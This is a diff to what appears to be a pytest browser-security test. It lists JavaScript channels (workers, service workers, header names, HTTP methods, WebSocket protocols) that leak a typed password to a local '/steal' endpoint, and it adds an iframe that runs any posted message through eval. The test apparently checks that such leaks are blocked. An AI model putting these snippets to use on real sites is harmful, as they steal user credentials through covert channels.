@@ -50,8 +50,8 @@ CHANNELS = {
     "new Blob([`onmessage=e=>fetch(e.data)`]))).postMessage(e.data)']))).postMessage(away+'?'+btoa(v))",
     "a service worker": "navigator.serviceWorker.register('/sw.js').then(()=>navigator.serviceWorker.ready)"
     ".then(r=>r.active.postMessage(away+'?'+encodeURIComponent(v)))",
-    "the name of a header": "fetch(away,{headers:{['x-'+hex(v)]:'1'}}).catch(()=>1)",
-    "a method": "fetch(away,{method:'X'+hex(v)}).catch(()=>1)",
+    "the name of a header": "within(`fetch('/steal',{headers:{'x-${hex(v)}':'1'}})`)",
+    "a method": "within(`fetch('/steal',{method:'X${hex(v)}'})`)",
     "a socket's protocol": "new WebSocket(away.replace('http','ws'),['p'+hex(v)])",
     "a socket's protocol, of a worker": "new Worker(URL.createObjectURL(new Blob(["
     "'onmessage=e=>new WebSocket(...e.data)']))).postMessage([away.replace('http','ws'),'p'+hex(v)])",
@@ -63,10 +63,13 @@ CHANNELS = {
 @pytest.mark.parametrize("channel", CHANNELS)
 async def test_a_secret_leaves_through_nothing(driver: Driver, channel: str) -> None:
     driver.site.pages["/sw.js"] = "onmessage=e=>fetch(e.data,{mode:'no-cors'})"
+    driver.site.page("<script>onmessage=e=>eval(e.data)</script>", "/inner")
     away = driver.site.url("/steal", "localhost")
     look = await driver.open(
         f"<input id=f type=password aria-label=Code><form action='{away}' method=post><input type=hidden name=s id=s>"
         f"</form><div id=o></div><script>const away='{away}';"
+        "const within=js=>{o.innerHTML='<iframe></iframe>';const f=o.firstChild;"
+        "f.onload=()=>f.contentWindow.postMessage(js,'*');f.src=away.replace('steal','inner')};"
         "const hex=v=>Array.from(v,c=>c.charCodeAt(0).toString(16)).join('');"
         f"f.oninput=()=>{{const v=f.value;{CHANNELS[channel]}}}</script>",
         refuse=strays,
